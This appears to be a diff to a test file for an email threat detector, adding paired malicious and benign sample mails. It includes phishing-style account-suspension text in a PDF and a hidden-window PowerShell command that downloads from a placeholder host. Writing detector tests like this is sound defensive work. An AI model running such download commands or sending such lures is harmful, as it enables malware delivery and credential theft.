@@ -97,6 +97,13 @@ def attachments():
         mail('Note', NOTE, [('a.html', page % b'desk@recipient.test')])
 
 
+    def asks(text):
+        page = pdfs.page(pdfs.LINK, b'BT /F1 12 Tf 72 700 Td (' + text.encode() + b') Tj ET')
+        return mail('Note', NOTE, [('a.pdf', pdfs.pdf(page))])
+    yield 'document-asks-account', asks('Your account is suspended. Verify your account within 24 hours.'), asks('The tulips are in flower.')
+    yield 'attachment-text-command', mail('Note', NOTE, [('a.txt', b'powershell -w h -c "iwr https://roses.test/a"')]), \
+        mail('Note', NOTE, [('a.txt', b'powershell is a shell')])
+
     def code(url, text='Please scan the QR code.'):
         return mail('Note', text, [('a.png', images.png(images.gray(images.qr(url))))])
     yield 'qr-asked', code('https://roses.test/a'), code('https://flowers.test/a')
